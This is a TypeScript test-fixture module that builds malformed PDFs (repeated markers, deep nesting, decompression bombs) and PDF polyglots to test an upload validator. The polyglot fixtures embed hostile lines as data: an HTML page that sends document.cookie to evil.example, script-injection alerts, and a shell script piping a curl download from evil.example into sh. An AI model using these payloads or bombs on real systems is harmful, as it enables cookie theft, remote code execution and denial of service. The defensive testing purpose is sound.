/**
 * Crafted PDFs: files that start and end like a PDF but are built to make a PDF reader slow or
 * greedy (issue 21, finding 5). Reusable by any test or fault-matrix row that needs "an
 * attachment meant to freeze the desk".
 *
 * - `markers`: the middle is `/Type/Pages>>stream` over and over, with no `<<` before it. A reader
 *   that looks back for the dictionary around each marker scans to the start of the file every
 *   time (1 MiB took 103 s before the fix). The file ends with a real catalogue and one page, so
 *   a reader that copes with it must accept it (1 page).
 * - `nesting`: `<<` a million times deep: a reader that keeps a frame per level runs out of memory.
 * - `object-stream-bomb`: compressed object streams that inflate to far more than the file's size
 *   (each a few KiB of zeros' deflate expanding to 16 MiB).
 */
import { deflateSync } from 'node:zlib';

export type CraftedPdfShape = 'markers' | 'nesting' | 'object-stream-bomb';

const HEADER = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
const TAIL = '\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n';

/** A crafted PDF of exactly `size` bytes (at least 4 KiB). */
export function craftedPdf(size: number, shape: CraftedPdfShape = 'markers'): Buffer {
  if (size < 4096) throw new RangeError('a crafted PDF needs at least 4 KiB');
  const head = Buffer.from(HEADER, 'latin1');
  const tail = Buffer.from(TAIL, 'latin1');
  const room = size - head.length - tail.length;
  return Buffer.concat([head, middle(shape, room), tail]);
}

function middle(shape: CraftedPdfShape, room: number): Buffer {
  switch (shape) {
    case 'markers':
      return repeat(Buffer.from('/Type/Pages>>stream\n', 'latin1'), room);
    case 'nesting':
      return repeat(Buffer.from('<<', 'latin1'), room);
    case 'object-stream-bomb': {
      const compressed = deflateSync(Buffer.alloc(16 * 1024 * 1024));
      const one = Buffer.concat([
        Buffer.from(`9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length ${compressed.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'),
        compressed,
        Buffer.from('\nendstream\nendobj\n', 'latin1'),
      ]);
      return repeat(one, room);
    }
  }
}

/** `unit` repeated to exactly `length` bytes; the remainder is spaces (PDF whitespace). */
function repeat(unit: Buffer, length: number): Buffer {
  const out = Buffer.alloc(length, 0x20);
  for (let at = 0; at + unit.length <= length; at += unit.length) unit.copy(out, at);
  return out;
}

/**
 * Files that are something else but carry a PDF header in their first kilobyte and `%%EOF` at
 * their end, the way the review of issue 21 got a program, a web page and an archive uploaded as
 * "application/pdf". Each holds a whole small PDF inside, so only the first bytes tell.
 */
export type PdfPolyglotKind = 'windows-program' | 'web-page' | 'zip' | 'linux-program' | 'script' | 'svg';

export function pdfPolyglot(kind: PdfPolyglotKind): Buffer {
  const pdf = Buffer.from(`%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
  switch (kind) {
    case 'windows-program': {
      // A DOS header (MZ, e_lfanew at 0x3C → "PE\0\0" at 0x80), then the PDF in the stub area.
      const header = Buffer.alloc(0x80 + 24);
      header.write('MZ', 0, 'latin1');
      header.writeUInt32LE(0x80, 0x3c);
      header.write('PE\0\0', 0x80, 'latin1');
      return Buffer.concat([header, pdf]);
    }
    case 'linux-program':
      return Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), pdf]);
    case 'web-page':
      return Buffer.concat([Buffer.from('<!DOCTYPE html>\n<html><body><img src=x onerror="alert(document.cookie)"><script>fetch("https://evil.example/?c="+document.cookie)</script>\n<!--\n', 'latin1'), pdf, Buffer.from('-->\n</body></html>\n%%EOF\n', 'latin1')]);
    case 'svg':
      return Buffer.concat([Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><!--\n', 'latin1'), pdf, Buffer.from('--></svg>\n%%EOF\n', 'latin1')]);
    case 'script':
      return Buffer.concat([Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\nexit 0\n', 'latin1'), pdf]);
    case 'zip': {
      // A stored (uncompressed) ZIP entry named certificate.pdf holding the PDF, then the central directory and its end.
      const name = Buffer.from('certificate.pdf', 'latin1');
      const local = Buffer.alloc(30);
      local.writeUInt32LE(0x04034b50, 0);
      local.writeUInt16LE(20, 4);
      local.writeUInt32LE(pdf.length, 18);
      local.writeUInt32LE(pdf.length, 22);
      local.writeUInt16LE(name.length, 26);
      const central = Buffer.alloc(46);
      central.writeUInt32LE(0x02014b50, 0);
      central.writeUInt16LE(20, 4);
      central.writeUInt16LE(20, 6);
      central.writeUInt32LE(pdf.length, 20);
      central.writeUInt32LE(pdf.length, 24);
      central.writeUInt16LE(name.length, 28);
      const end = Buffer.alloc(22);
      end.writeUInt32LE(0x06054b50, 0);
      end.writeUInt16LE(1, 8);
      end.writeUInt16LE(1, 10);
      end.writeUInt32LE(central.length + name.length, 12);
      end.writeUInt32LE(local.length + name.length + pdf.length, 16);
      // Ends in %%EOF: the PDF's own end marker sits within the last 2 KB, which is all the old check read.
      return Buffer.concat([local, name, pdf, central, name, end]);
    }
  }
}
